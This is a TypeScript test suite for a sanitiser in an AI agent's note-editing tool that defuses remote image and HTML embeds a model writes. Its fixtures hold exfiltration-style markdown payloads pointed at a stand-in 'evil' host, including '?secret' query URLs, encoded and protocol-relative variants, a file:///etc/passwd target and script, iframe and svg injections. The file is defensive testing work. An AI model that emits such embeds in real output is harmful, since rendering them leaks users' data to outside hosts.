import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { marked, type Token } from "marked";
import { withoutNewEmbeds } from "../../../../plugins/agent/tools/remote_embeds.ts";

/** What a model writes into an empty note, and what stands there then. */
const WRITTEN: readonly (readonly [text: string, stands: string])[] = [
  ["![](http://evil/?secret)", "[](http://evil/?secret)"],
  ["a ![b](https://evil/c.png 'd') e", "a [b](https://evil/c.png 'd') e"],
  ["![b](//evil/c)", "[b](//evil/c)"],
  ["![b](/c.png)", "[b](/c.png)"],
  ["![b](\\\\evil\\c)", "[b](\\\\evil\\c)"],
  ["![b](h&#116;tp://evil)", "[b](h&#116;tp://evil)"],
  ["![b](%2F%2Fevil/c)", "[b](%2F%2Fevil/c)"],
  ["![b](https%3A//evil)", "[b](https%3A//evil)"],
  ["![b](data:image/svg+xml,c)", "[b](data:image/svg+xml,c)"],
  ["![b](file:///etc/passwd)", "[b](file:///etc/passwd)"],
  ["![b](\n  http://evil\n)", "[b](\n  http://evil\n)"],
  ["![b\nc](http://evil)", "[b\nc](http://evil)"],
  ["![b](<http://evil>)", "[b](<http://evil>)"],
  ["![b](<//evil>)", "[b](&lt;//evil>)"],
  ["![[b](c)](http://evil)", "[[b](c)](http://evil)"],
  ["![![b](c.png)](http://evil)", "[![b](c.png)](http://evil)"],
  ["[![b](http://evil)](http://evil)", "[[b](http://evil)](http://evil)"],
  ["!![b](http://evil)", "[b](http://evil)"],
  ["\\![b](http://evil)", "\\[b](http://evil)"],
  ["![b\\]](http://evil)", "[b\\]](http://evil)"],
  ["[!\\[b](http://evil)c](d)", "[\\[b](http://evil)c](d)"],
  ["![`]`](http://evil)", "[`]`](http://evil)"],
  ["![b][c]\n\n[c]: http://evil", "[b][c]\n\n[c]: http://evil"],
  ["![c]\n\n[C]: http://evil", "[c]\n\n[C]: http://evil"],
  ["![b][]", "[b][]"],
  ["![[http://evil/b.png]]", "[[http://evil/b.png]]"],
  ["![[b]](http://evil)", "[[b]](http://evil)"],
  ["![[`]]`]](http://evil)", "[[`]]`]](http://evil)"],
  ["```\n![b](http://evil)\n```", "```\n[b](http://evil)\n```"],
  ["<img src=http://evil>", "&lt;img src=http://evil>"],
  ["<IMG\nsrc='http://evil'>", "&lt;IMG\nsrc='http://evil'>"],
  ["<svg><image href=//evil /></svg>", "&lt;svg>&lt;image href=//evil />&lt;/svg>"],
  ["<style>", "&lt;style>"],
  ["<script>", "&lt;script>"],
  ["<iframe/src=//evil>", "&lt;iframe/src=//evil>"],
  ["<b style='background:url(//evil)'>c</b>", "&lt;b style='background:url(//evil)'>c</b>"],
  ["<!-- b --><?c?><![CDATA[d]]>", "&lt;!-- b -->&lt;?c?><[CDATA[d]]>"],
  ["<div>\n<https://style=background:url(//evil)>", "<div>\n&lt;https://style=background:url(//evil)>"],
  ["<https://b?c/style=d>", "&lt;https://b?c/style=d>"],
  ["<javascript:b>", "&lt;javascript:b>"],
  ["<base href", "&lt;base href"],
];

/** What a model may write as it likes. */
const KEPT: readonly string[] = [
  "",
  "# Milk!\n\n- [ ] bread\n\n| a | b |\n| - | - |",
  "[b](http://example.org/c.png)",
  "[b][c]\n\n[c]: http://example.org",
  "![b](c.png)",
  "![b|100](../attachments/c%20d.png 'e')",
  "![Дом](attachments/Дом.png)",
  "![[c.png]] and ![[Note#Part|e]]",
  "<https://example.org/a?b=c> and <a.b@example.org>",
  "H<sub>2</sub>O<br>a<br/>b <b>c</b>",
  "<details>\n<summary>a</summary>\n\nb\n</details>",
  "a < b, a <= c, 1 <2, <3, a<-b",
  "wow! [b](c) http://example.org",
  "&lt;img src=a>",
];

for (const [text, stands] of WRITTEN) {
  Deno.test(`a model that writes ${JSON.stringify(text)} embeds nothing`, () => {
    assertEquals(withoutNewEmbeds("", text), stands);
  });
}

Deno.test("text that embeds nothing from elsewhere is written as it is", () => {
  for (const text of KEPT) assertEquals(withoutNewEmbeds("", text), text);
});

/** What people have in their notes. */
const OWN: readonly string[] = [
  "![b](http://own/a.png)",
  "[![b](http://own/a_(b).png 'c')](http://own)",
  "![b](<http://own/a b.png>)",
  "![b\nc](http://own/a)",
  "![a][b]\n\n[b]: http://own/a.png",
  `![][b]\n\n[b]: <data:image/png;base64,${"A".repeat(5_000)}>`,
  '<img src="http://own/a.png" width=100>',
  `<img alt='' src="data:image/png;base64,${"A".repeat(5_000)}" />`,
  "<iframe src='http://own'></iframe>",
  "<!-- don't > -->",
  "<style>\na > b { c: d }\n</style>",
  "if (a <b) ![1,2].c",
  "```html\n<img src=a>\n```",
  "![[http://own/a]]",
];

Deno.test("what stood in a note stays as it was, whatever comes before and behind it", () => {
  for (const own of OWN) {
    const before = `one\n\n${own}\n\ntwo`;
    const after = `${before.replace("one", "![x](http://evil)")} <img src=evil>`;
    assertEquals(withoutNewEmbeds(before, after), `[x](http://evil)\n\n${own}\n\ntwo &lt;img src=evil>`);
  }
});

Deno.test("what stood in a note becomes no embed by what is put before it, into it or behind it", () => {
  const edits: readonly (readonly [before: string, after: string, stands: string])[] = [
    ["[b](http://evil)", "![b](http://evil)", "[b](http://evil)"],
    ["\\![b](c.png)", "![b](//c.png)", "[b](//c.png)"],
    ["![b](c.png)", "![b](http://c.png)", "[b](http://c.png)"],
    ["![[b]]", "![[b]](http://evil)", "[[b]](http://evil)"],
    ["![b](http://own)", "![b](http://own.evil)", "[b](http://own.evil)"],
    ["![b](http://own)", "![![b](http://own)](http://evil)", "[![b](http://own)](http://evil)"],
    ["img src=http://evil>", "<img src=http://evil>", "&lt;img src=http://evil>"],
    ["a <b c", "a <b c> d", "a &lt;b c> d"],
    ["<b>", "<b style=c>", "&lt;b style=c>"],
    ["![a][b]", "![a][b]\n\n[B]: http://evil", "![a][b]\n\n[B] : http://evil"],
    ["![b]", "![b]\n\n> [b]:\n> //evil", "![b]\n\n> [b] :\n> //evil"],
    ["![b]\n\n[b]: http://own", "![b]\n\n[b]: http://evil", "![b]\n\n[b] : http://evil"],
    ["![b]", "![b]\n\n[b]: c.png", "![b]\n\n[b]: c.png"],
  ];
  for (const [before, after, stands] of edits) assertEquals(withoutNewEmbeds(before, after), stands);
});

Deno.test("a paragraph that is added gives no image of the note another target", () => {
  assertEquals(withoutNewEmbeds("![a][b]", "[b]: http://evil"), "[b] : http://evil");
  assertEquals(withoutNewEmbeds("[a][b]", "[b]: http://evil"), "[b]: http://evil");
});

/** Pieces of which embeds are made, so that edits put them together by chance. */
const piece = fc.constantFrom(
  ..."! !! [ ] ( ) ![ ]( [[ ]] < > / \\ ` ``` ' \" = : ]: ][ &lt; | % - >".split(" "),
  ...["\n", "\n\n", " ", "\t", "\n    ", "\r"],
  ..."a b.png //evil http://evil https: data: img src= <img <b> </b> <div> <style <!-- --> style= <https://".split(" "),
  ..."![a](http://evil) [a]: [a] ![a] http://own ![a](http://own) <img&#32;src=http://own>".replace("&#32;", "\u00a0")
    .split(" "),
);
const text = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(""));
/** What a person has written, with embeds of their own. */
const own = fc.array(
  fc.constantFrom(
    ...["![a](http://own)", '<img src="http://own">', "[a]: http://own\n", "![a]", "![a][b]", "\n\n", " b ", "[a](c)"],
    ...["![b](c.png)", "![[c]]", "\n", "- ", "> "],
  ),
  { maxLength: 8 },
).map((pieces) => pieces.join(""));
const edit = fc.record({ from: fc.nat(60), length: fc.nat(6), text });

function tokensOf(text: string): readonly Token[] {
  const tokens: Token[] = [];
  marked.walkTokens(marked.lexer(text), (token) => {
    tokens.push(token);
  });
  return tokens;
}

/** What a reader would fetch from elsewhere. */
function embedsOf(text: string): readonly string[] {
  return tokensOf(text).flatMap((token) => {
    if (token.type === "image") return /^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})/i.test(token.href) ? [token.href] : [];
    if (token.type !== "html") return [];
    return [...token.raw.matchAll(/<[a-z][^>]*[\s/][a-z:-]+\s*=[^>]*>?|<(?:style|script|svg|iframe|object)\b/gi)].map(
      ([tag]) => tag,
    );
  });
}

Deno.test("whatever edits are made one after the other, a note embeds only what its person has embedded", () => {
  fc.assert(
    fc.property(own, fc.array(edit, { minLength: 1, maxLength: 6 }), (own, edits) => {
      let body = own;
      for (const { from, length, text } of edits) {
        const after = body.slice(0, from) + text + body.slice(from + length);
        body = withoutNewEmbeds(body, after);
        assertEquals(withoutNewEmbeds(body, body), body);
        for (const embed of embedsOf(body)) assert(own.includes(embed), `${JSON.stringify(body)} embeds ${embed}`);
      }
    }),
    { numRuns: 3_000 },
  );
});

Deno.test("what was made harmless once is not changed again", () => {
  fc.assert(
    fc.property(fc.oneof(own, text), text, (before, after) => {
      const safe = withoutNewEmbeds(before, after);
      assertEquals(withoutNewEmbeds(before, safe), safe);
      assertEquals(withoutNewEmbeds(before, before), before);
    }),
    { numRuns: 3_000 },
  );
});
